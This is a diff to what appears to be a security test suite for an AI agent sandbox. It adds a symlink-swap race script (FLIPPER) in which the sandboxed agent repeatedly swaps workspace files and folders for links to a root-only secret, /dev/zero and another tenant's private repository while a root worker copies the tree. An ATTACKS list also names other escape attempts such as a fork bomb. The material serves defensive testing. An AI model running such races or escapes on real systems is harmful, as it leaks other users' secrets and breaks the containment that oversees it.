@@ -15,8 +15,10 @@ import asyncio
 import contextlib
 import os
 import re
+import shlex
 import shutil
 import signal
+import stat
 import subprocess
 import sys
 import tempfile
@@ -121,8 +123,10 @@ class Lab:
 
     @contextlib.asynccontextmanager
     async def sandbox(self, name: str, egress: list[str] | None = None,
-                      **kwargs: object) -> AsyncIterator[Sandbox]:
-        box = await self.backend(**kwargs).start(name, self.workspace(name), egress=egress)
+                      workspace: Path | None = None, **kwargs: object
+                      ) -> AsyncIterator[Sandbox]:
+        box = await self.backend(**kwargs).start(name, workspace or self.workspace(name),
+                                                 egress=egress)
         try:
             yield box
         finally:
@@ -663,6 +667,128 @@ async def fence_escape_and_hidden_text(lab: Lab) -> Verdict:
     return closes == 1 and not steer, f"fence closes {closes}x; hidden text kept: {steer}"
 
 
+# -- the baseline copy: made by the root worker while the agent already runs ------------------
+
+# The agent's first command: swaps every pad file and folder with a symlink (renameat2's
+# RENAME_EXCHANGE, so the name never disappears from a listing), back and forth, for $4 s.
+FLIPPER = r"""
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+def swap(a, b):
+    if libc.renameat2(-100, a.encode(), -100, b.encode(), 2) != 0:
+        raise OSError(ctypes.get_errno(), a)
+secret, private, device, seconds = sys.argv[1:5]
+pads, dirs = sorted(os.listdir("pad")), sorted(os.listdir("dirs"))
+os.makedirs(".alt/pad"), os.makedirs(".alt/dirs")
+for i, name in enumerate(pads):
+    os.symlink(device if device and i % 4 == 0 else secret, f".alt/pad/{name}")
+for name in dirs:
+    os.symlink(private, f".alt/dirs/{name}")
+open("flipping", "w").close()
+end, rounds = time.time() + float(seconds), 0
+while time.time() < end:
+    for name in pads:
+        swap(f"pad/{name}", f".alt/pad/{name}")
+    for name in dirs:
+        swap(f"dirs/{name}", f".alt/dirs/{name}")
+    rounds += 1
+print("rounds", rounds)
+"""
+PAD = "x" * 8192
+
+
+@contextlib.contextmanager
+def small_disk(path: Path, mb: int) -> Iterator[Path]:
+    """``path`` on a tmpfs of ``mb`` MB (as root), so an endless copy ends at its edge and
+    never fills the host's disk; a plain folder otherwise."""
+    path.mkdir(parents=True)
+    mounted = os.geteuid() == 0 and subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", f"size={mb}m,mode=0755", "tmpfs", str(path)],
+        capture_output=True).returncode == 0
+    try:
+        yield path
+    finally:
+        if mounted:
+            subprocess.run(["umount", "-l", str(path)], capture_output=True)
+
+
+def copy_findings(copy: Path, canaries: list[bytes]) -> list[str]:
+    """What in the baseline copy did not come from the commit: canary bytes, a pad file
+    whose content changed (a device or host file was read), a folder's foreign content."""
+    found = []
+    for folder, _, files in os.walk(copy):
+        for name in files:
+            path = Path(folder, name)
+            if not stat.S_ISREG(path.lstat().st_mode):
+                continue
+            rel = path.relative_to(copy).as_posix()
+            with path.open("rb") as fh:
+                data = fh.read(1 << 20)
+            if any(c in data for c in canaries):
+                found.append(f"{rel} holds a host secret")
+            elif rel.startswith("pad/") and data != PAD.encode():
+                found.append(f"{rel} holds {path.stat().st_size} bytes not committed")
+    return found
+
+
+def committed(path: Path, text: str) -> bool:
+    """Whether ``path`` is a regular file (not a link) holding ``text``."""
+    with contextlib.suppress(OSError):
+        return stat.S_ISREG(path.lstat().st_mode) and path.read_text() == text
+    return False
+
+
+async def baseline_copy_race(lab: Lab, device: str = "/dev/null", pads: int = 2000,
+                             disk_mb: int = 256) -> Verdict:
+    """Audit 3, C1 (rows 19, 42): while the worker, as root, makes the baseline copy of the
+    work tree, the agent swaps files for symlinks to a root-only secret and to a device, and
+    folders for symlinks to another installation's private mirror."""
+    from bot.executor.workspace import Workspaces
+
+    root = Path(tempfile.mkdtemp(dir=lab.root))
+    root.chmod(0o755)
+    secret = root / "handoff.env"
+    secret.write_text("HANDOFF_MODEL_API_KEY=sk-live-CANARY-28e205b765\n")
+    secret.chmod(0o600)
+    private = root / "other-mirror.git"
+    private.mkdir(mode=0o700)
+    (private / "HEAD").write_text("ref: refs/heads/OTHER-TENANT-PRIVATE\n")
+    files = {f"pad/f{i:05d}": PAD for i in range(pads)}
+    files.update({f"dirs/d{i:03d}/keep": "kept\n" for i in range(pads // 10)})
+    origin = origin_repo(root, files, {})
+    with small_disk(root / "data", disk_mb) as data:
+        workspaces = Workspaces(data)
+        co = await workspaces.checkout(1, "acme/app", "agent/issue-1", "main", str(origin), "")
+        start = await co.rev("HEAD")
+        error = ""
+        async with lab.sandbox("sec-copy", workspace=co.work_tree) as box:
+            flip = asyncio.ensure_future(box.exec(
+                shlex.join(["python3", "-c", FLIPPER, str(secret), str(private), device, "6"]),
+                timeout=60))
+            while not (co.work_tree / "flipping").exists() and not flip.done():
+                await asyncio.sleep(0.05)
+            try:
+                copy = await workspaces.snapshot(co, 1, "agent/issue-1", "main", start, start)
+            except Exception as exc:  # the old copy raised at the end: look at what it made
+                copy, error = data / "workspaces/1-baseline", f"{type(exc).__name__}"
+            flipped = await flip
+        found = copy_findings(copy, [b"CANARY", b"OTHER-TENANT"])
+        whole = sum(1 for name, text in files.items() if committed(copy / name, text))
+    evidence = (f"flipper: {flipped.stdout.strip() or flipped.describe()}; copy: {whole} of "
+                f"{len(files)} files as committed{'; copy raised ' + error if error else ''}"
+                f"; {len(found)} not from the commit: {found[:3]}")
+    return not found and not error and whole == len(files), evidence
+
+
+async def baseline_copy_reads_device(lab: Lab) -> Verdict:
+    """Audit 3, C1 (code review): a file swapped for a link to /dev/zero during the baseline
+    copy would have the root worker write zeros until the disk is full (bounded here by a
+    64 MB tmpfs, so the attack shows without filling the host)."""
+    if os.geteuid() != 0:
+        return False, "not run: the bound on the copy's disk needs root (a tmpfs mount)"
+    return await baseline_copy_race(lab, device="/dev/zero", pads=400, disk_mb=64)
+
+
 ATTACKS: list[Callable[[Lab], Awaitable[Verdict]]] = [
     setup_phase_reaches_host_port,
     fork_bomb,
@@ -684,6 +810,8 @@ ATTACKS: list[Callable[[Lab], Awaitable[Verdict]]] = [
     tls_sni_other_than_the_connect_host,
     metadata_and_shared_addresses,
     refused_host_text_injection,
+    baseline_copy_race,
+    baseline_copy_reads_device,
 ]
 
 
